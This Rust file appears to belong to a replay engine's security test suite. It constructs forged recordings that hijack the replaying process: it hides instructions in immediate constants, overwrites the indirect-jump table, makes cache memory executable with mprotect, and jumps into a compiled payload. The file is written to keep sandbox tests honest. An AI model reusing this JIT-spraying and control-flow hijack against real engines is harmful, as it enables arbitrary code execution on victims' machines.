//! Recordings that take over the process that replays them.
//!
//! A replay executes the code of a recording natively, in the address space of the engine. Nothing keeps it from writing
//! there, so a recording gains control like this:
//!
//! 1. Its first block moves constants to a register. The translator copies such instructions as they are, so the bytes of
//!    the constants are in executable memory: six bytes of code of our choice in each, and a jump over the next opcode.
//! 2. It looks for these bytes in the code cache, and writes where they are into the table of targets of indirect jumps,
//!    which lies at a known distance below the shadow.
//! 3. An indirect jump leads there. These few instructions make some of the cache writable and executable, copy the *payload*
//!    there, which the log has put into the guest's memory, and jump to it.
//!
//! The payload, a C file in `payloads/`, then has the process: registers, memory and the right to make system calls, as far
//! as the sandbox leaves it any. It says so on its standard error stream, which ends up in retro's message; a test of the
//! sandbox asserts that, so that none of them passes because the attack has stopped working.

use std::path::{Path, PathBuf};
use std::process::Command;

use retro_abi::layout::{CACHE_BASE, SHADOW_DISTANCE};
use retro_abi::log::{Event, MAX_BYTES};

use crate::forged::Forged;

/// Where the log puts the payload.
const PAYLOAD: u64 = 0x2000_0000;

/// Where it is copied to: part of the cache's address range that is not used yet.
const COPY: u64 = CACHE_BASE + 0x0800_0000;

/// Most bytes of a payload.
const PAYLOAD_LIMIT: u64 = 0x1_0000;

/// The end of its stack, in the guest's memory.
const STACK: u64 = 0x3000_0000;

/// Where the table of jump targets begins: below the context, which ends where the shadow begins.
const JUMP_TABLE: u64 = SHADOW_DISTANCE - (16 * 1024 + SHADOW_DISTANCE % 4096) - (8 << 16);

/// An address that nothing is at, whose lower half chooses an entry of the table.
const TARGET: u64 = 0x1357;

/// Instructions that the recording claims to have.
const END: u64 = 50_000_000;

/// The first of the constants, which the code looks for.
const FIRST: [u8; 6] = [0x0f, 0x1f, 0x44, 0x00, 0x5a, 0x90];

/// What makes room for the payload and jumps to it, in pieces of at most six bytes. The guest has set the registers.
const LAUNCH: [&[u8]; 9] = [
    &[0xba, 7, 0, 0, 0],  // mov edx, PROT_READ | PROT_WRITE | PROT_EXEC
    &[0xb8, 10, 0, 0, 0], // mov eax, mprotect
    &[0x0f, 0x05],        // syscall(rdi, rsi, rdx)
    &[0x4c, 0x89, 0xef],  // mov rdi, r13
    &[0x4c, 0x89, 0xe6],  // mov rsi, r12
    &[0x44, 0x89, 0xf9],  // mov ecx, r15d
    &[0xf3, 0xa4],        // rep movsb
    &[0x4c, 0x89, 0xf4],  // mov rsp, r14
    &[0x41, 0xff, 0xe5],  // jmp r13
];

/// Moves a constant to a register, by its number.
pub fn load(register: u8, value: u64) -> Vec<u8> {
    let prefix = if register < 8 { 0x48 } else { 0x49 };
    [&[prefix, 0xb8 + (register & 7)][..], &value.to_le_bytes()].concat()
}

pub const RAX: u8 = 0;
pub const RBX: u8 = 3;
const RSI: u8 = 6;
pub const RDI: u8 = 7;
const R12: u8 = 12;
const R13: u8 = 13;
const R14: u8 = 14;
const R15: u8 = 15;

/// The guest's code.
fn code(payload_length: usize) -> Vec<u8> {
    // jmp over the opcode of the next instruction
    const ON: [u8; 2] = [0xeb, 0x02];
    let constant = |bytes: &[u8]| {
        let mut padded = [0x90; 8];
        padded[..bytes.len()].copy_from_slice(bytes);
        padded[6..].copy_from_slice(&ON);
        u64::from_le_bytes(padded)
    };
    let mut code = Vec::new();
    for piece in std::iter::once(&FIRST[..]).chain(LAUNCH) {
        code.extend(load(RAX, constant(piece)));
    }
    code.extend(load(R12, PAYLOAD));
    code.extend(load(R13, COPY));
    code.extend(load(R14, STACK));
    code.extend(load(R15, payload_length as u64));
    // The value that is looked for must not be found in the code that looks for it.
    code.extend(load(RBX, !constant(&FIRST)));
    code.extend([0x48, 0xf7, 0xd3]); // not rbx
    code.extend(load(RDI, CACHE_BASE));
    code.extend([0xeb, 0x00]); // jmp to the next instruction: the loop is a block of its own
    code.extend([0x48, 0x39, 0x1f]); // cmp [rdi], rbx
    code.extend([0x74, 0x05]); // je out
    code.extend([0x48, 0xff, 0xc7]); // inc rdi
    code.extend([0xeb, 0xf6]); // jmp back
    code.extend([0x48, 0x89, 0xf8]); // mov rax, rdi
    code.extend(load(RDI, JUMP_TABLE + 8 * (TARGET & 0xffff)));
    // A string instruction: of other stores an indexer keeps marks beside the memory, where there is none for this one.
    code.extend([0xb9, 1, 0, 0, 0]); // mov ecx, 1
    code.extend([0xf3, 0x48, 0xab]); // rep stosq
    code.extend(load(RDI, COPY));
    code.extend(load(RSI, PAYLOAD_LIMIT));
    code.extend(load(RAX, TARGET));
    code.extend([0xff, 0xe0]); // jmp rax
    code
}

/// Writes a recording that takes over its replay.
pub fn write(directory: &Path, payload: &[u8]) {
    assert!((payload.len() as u64) < PAYLOAD_LIMIT);
    let code = code(payload.len());
    let mut forged = Forged::new(&code, END);
    for (index, bytes) in payload.chunks(MAX_BYTES).enumerate() {
        let address = PAYLOAD + (index * MAX_BYTES) as u64;
        forged = forged.with(0, Event::Write { address, bytes });
    }
    forged.write(directory);
}

/// Compiles a payload with macros, as `NAME=VALUE`.
pub fn compile(name: &str, macros: &[String], place: &Path) -> Vec<u8> {
    let sources = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/attacks/payloads");
    let output: PathBuf = place.join(format!("{name}.bin"));
    let mut compiler = Command::new("cc");
    compiler
        .args(["-Os", "-ffreestanding", "-fPIE", "-fno-stack-protector", "-fcf-protection=none"])
        .args(["-fno-asynchronous-unwind-tables", "-mno-red-zone", "-mno-sse", "-Wall", "-Werror"])
        .args(["-Wno-unused-function", "-nostdlib", "-static", "-fuse-ld=bfd"])
        .args(["-Wl,--build-id=none", "-Wl,--oformat=binary", "-Wl,-e,0"])
        .arg(format!("-Wl,-T,{}", sources.join("flat.ld").display()))
        .args(macros.iter().map(|name| format!("-D{name}")))
        .arg("-o")
        .arg(&output)
        .arg(sources.join(format!("{name}.c")));
    let compiled = compiler.output().unwrap();
    assert!(compiled.status.success(), "{}", String::from_utf8_lossy(&compiled.stderr));
    std::fs::read(output).unwrap()
}
